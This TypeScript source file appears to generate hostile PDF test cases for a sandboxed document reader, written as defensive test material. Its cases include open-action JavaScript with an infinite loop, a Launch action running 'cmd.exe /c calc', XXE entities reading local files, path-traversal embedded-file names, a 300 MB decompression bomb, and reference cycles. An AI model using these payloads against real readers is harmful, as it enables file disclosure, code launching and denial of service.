import { zlibZeros } from '../building/packed.js';
import { onePage, pdfStream, shownWords } from '../building/pdf-file.js';
import { type Family, filesOf, randomBytes } from '../hostile-file.js';

const image = (entries: string, bytes: Uint8Array) =>
  pdfStream(bytes, `/Type /XObject /Subtype /Image ${entries}`);
const shownImage = 'q 595 0 0 842 0 0 cm /X Do Q';
const resources = '/XObject << /X 6 0 R >>';

/** PDFs that do something when they are opened, and pages that are no letters. */
export const pdfContent: Family = ({ http, path }, random) => {
  const action = (entries: string) => onePage({ catalogue: `/OpenAction << /Type /Action ${entries} >>` });
  const scan = (entries: string, bytes: Uint8Array) =>
    onePage({ content: pdfStream(shownImage), resources, objects: [image(entries, bytes)] });
  return filesOf(
    'pdf-content',
    {
      'javascript.pdf': () =>
        action(`/S /JavaScript /JS (app.launchURL\\("${http}/js"\\); while\\(true\\);)`),
      'launch.pdf': () => action('/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>'),
      'uri.pdf': () => action(`/S /URI /URI (${http}/uri)`),
      'go-to-remote.pdf': () => action(`/S /GoToR /F << /FS /URL /F (${http}/other.pdf) >> /D [0 /Fit]`),
      'go-to-file.pdf': () => action(`/S /GoToR /F (${path}) /D [0 /Fit]`),
      'submit-form.pdf': () => action(`/S /SubmitForm /F << /FS /URL /F (${http}/submit) >> /Flags 4`),
      'import-data.pdf': () => action(`/S /ImportData /F (${path})`),
      'actions-in-a-circle.pdf': () =>
        onePage({ catalogue: '/OpenAction 6 0 R', objects: ['<< /S /Named /N /NextPage /Next 6 0 R >>'] }),
      'stream-in-another-file.pdf': () =>
        onePage({ content: pdfStream('', `/F << /FS /URL /F (${http}/stream) >> /FFilter /FlateDecode`) }),
      'stream-in-a-local-file.pdf': () => onePage({ content: pdfStream('', `/F (${path})`) }),
      'reference-page.pdf': () =>
        onePage({
          content: pdfStream(`${shownWords} /X Do`),
          resources,
          objects: [
            pdfStream(
              '',
              `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (${http}/ref.pdf) >> /Page 0 >>`,
            ),
          ],
        }),
      'embedded-files.pdf': () =>
        onePage({
          catalogue: '/Names << /EmbeddedFiles << /Names [(../../tmp/qidi-hostile-pdf.exe) 6 0 R] >> >>',
          objects: [
            '<< /Type /Filespec /F (../../tmp/qidi-hostile-pdf.exe) /EF << /F 7 0 R >> >>',
            pdfStream(zlibZeros(300 * 1024 * 1024), '/Type /EmbeddedFile /Filter /FlateDecode'),
          ],
        }),
      'name-tree-in-a-circle.pdf': () =>
        onePage({ catalogue: '/Names << /EmbeddedFiles 6 0 R >>', objects: ['<< /Kids [6 0 R 6 0 R] >>'] }),
      'outline-in-a-circle.pdf': () =>
        onePage({
          catalogue: '/Outlines 6 0 R',
          objects: ['<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Title (x) >>'],
        }),
      'xfa.pdf': () =>
        onePage({
          catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >>',
          objects: [
            pdfStream(
              `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${http}/xfa"><!ENTITY f SYSTEM "file://${path}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;&f;</xdp:xdp>`,
            ),
          ],
        }),
      'fields-in-a-circle.pdf': () =>
        onePage({
          catalogue: '/AcroForm << /Fields [6 0 R] >>',
          page: '/Annots [6 0 R]',
          objects: [
            '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /Parent 6 0 R /Kids [6 0 R] >>',
          ],
        }),
      'hundred-thousand-annotations.pdf': () =>
        onePage({
          page: `/Annots [${'6 0 R '.repeat(100_000)}]`,
          objects: ['<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (x) >>'],
        }),
      'form-shows-itself.pdf': () =>
        onePage({
          content: pdfStream(`${shownWords} /X Do`),
          resources,
          objects: [
            pdfStream(
              '/X Do /X Do',
              '/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X 6 0 R >> >>',
            ),
          ],
        }),
      'forms-double-24-times.pdf': () =>
        onePage({
          content: pdfStream('/X Do'),
          resources,
          objects: Array.from({ length: 24 }, (_, i) =>
            i === 23
              ? pdfStream(`BT /F1 9 Tf (x) Tj ET`, '/Type /XObject /Subtype /Form /BBox [0 0 600 900]')
              : pdfStream(
                  '/X Do /X Do',
                  `/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X ${i + 7} 0 R >> >>`,
                ),
          ),
        }),
      'pattern-of-itself.pdf': () =>
        onePage({
          content: pdfStream('/Pattern cs /P scn 0 0 500 500 re f'),
          resources: '/Pattern << /P 6 0 R >>',
          objects: [
            pdfStream(
              '/Pattern cs /P scn 0 0 5 5 re f',
              '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 6 0 R >> >>',
            ),
          ],
        }),
      'saves-a-million-states.pdf': () => onePage({ content: pdfStream('q '.repeat(1_000_000)) }),
      'million-operators.pdf': () => onePage({ content: pdfStream('0 0 m 9 9 l S '.repeat(300_000)) }),
      'million-words.pdf': () =>
        onePage({ content: pdfStream(`BT /F1 9 Tf ${'(abcdefgh ) Tj '.repeat(300_000)} ET`) }),
      'function-of-a-megabyte.pdf': () =>
        onePage({
          content: pdfStream('/S sh'),
          resources: '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Function 6 0 R >> >>',
          objects: [
            pdfStream(`{ ${'{ '.repeat(100_000)} }`, '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]'),
          ],
        }),
      'huge-paper.pdf': () => onePage({ mediaBox: '[0 0 1e30 1e30]', content: pdfStream('0 0 9 9 re f') }),
      'paper-of-14400-inches.pdf': () =>
        onePage({ mediaBox: '[0 0 1036800 1036800]', content: pdfStream('0 0 9 9 re f') }),
      'paper-of-nothing.pdf': () => onePage({ mediaBox: '[0 0 0 0]', content: pdfStream('0 0 9 9 re f') }),
      'paper-inside-out.pdf': () => onePage({ mediaBox: '[600 900 -600 -900]' }),
      'user-unit-of-millions.pdf': () =>
        onePage({ page: '/UserUnit 75000000', content: pdfStream('0 0 9 9 re f') }),
      'image-of-60000-squared.pdf': () =>
        scan(
          '/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode',
          zlibZeros(60_000 * 7_500),
        ),
      'image-says-two-thousand-million.pdf': () =>
        scan(
          '/Width 2147483647 /Height 2147483647 /BitsPerComponent 8 /ColorSpace /DeviceRGB',
          Buffer.alloc(64),
        ),
      'jbig2-rubbish.pdf': () =>
        scan(
          '/Width 1000 /Height 1000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode',
          randomBytes(random, 20_000),
        ),
      'jbig2-huge-region.pdf': () =>
        scan(
          '/Width 1000 /Height 1000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode',
          Buffer.from('00000000300001000000137fffffff7fffffff000000000000000001ffff', 'hex'),
        ),
      'jpx-rubbish.pdf': () =>
        scan(
          '/Width 1000 /Height 1000 /Filter /JPXDecode',
          Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), randomBytes(random, 20_000)]),
        ),
      'jpx-huge-size.pdf': () =>
        scan(
          '/Width 1000 /Height 1000 /Filter /JPXDecode',
          Buffer.from(
            'ff4fff51002f00007fffffff7fffffff00000000000000000000000100000001000000000000000000030701010701010701 01'.replaceAll(
              ' ',
              '',
            ),
            'hex',
          ),
        ),
      'dct-rubbish.pdf': () =>
        scan(
          '/Width 1000 /Height 1000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode',
          Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), randomBytes(random, 20_000)]),
        ),
      'fax-rubbish.pdf': () =>
        scan(
          '/Width 1000 /Height 1000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2000000000 >>',
          randomBytes(random, 20_000),
        ),
      'colour-space-of-itself.pdf': () =>
        onePage({
          content: pdfStream(shownImage),
          resources,
          objects: [
            image('/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace 7 0 R', Buffer.alloc(81)),
            '[/Indexed 7 0 R 255 7 0 R]',
          ],
        }),
      'mask-of-itself.pdf': () =>
        scan('/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /SMask 6 0 R', Buffer.alloc(81)),
      'font-is-rubbish.pdf': () =>
        onePage({
          resources: '/Font << /F1 6 0 R >>',
          objects: [
            '<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 7 0 R /FirstChar 0 /LastChar 2147483647 /Widths [1] >>',
            '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 8 0 R >>',
            pdfStream(randomBytes(random, 50_000)),
          ],
        }),
      'map-of-characters-of-itself.pdf': () =>
        onePage({
          content: pdfStream('BT /F2 12 Tf 50 700 Td <00410042> Tj ET'),
          resources: '/Font << /F2 6 0 R >>',
          objects: [
            '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 7 0 R /ToUnicode 7 0 R /DescendantFonts [6 0 R] >>',
            pdfStream(
              'begincmap 1 begincodespacerange <0000> <ffffffff> endcodespacerange 1 beginbfrange <0000> <ffffffff> <0041> endbfrange 1 begincidrange <0000> <ffffffff> 0 endcidrange endcmap',
              '/Type /CMap /CMapName /X /UseCMap 7 0 R',
            ),
          ],
        }),
      'type3-glyph-shows-itself.pdf': () =>
        onePage({
          content: pdfStream('BT /F2 12 Tf 50 700 Td (aaaa) Tj ET'),
          resources: '/Font << /F2 6 0 R >>',
          objects: [
            '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F2 6 0 R >> >> >>',
            pdfStream('9 0 d0 BT /F2 1 Tf (aa) Tj ET'),
          ],
        }),
    },
    slow,
  );
};

/** As measured; the sandbox has to put an end to each. */
const slow = ['forms-double-24-times.pdf', 'saves-a-million-states.pdf', 'pattern-of-itself.pdf'];
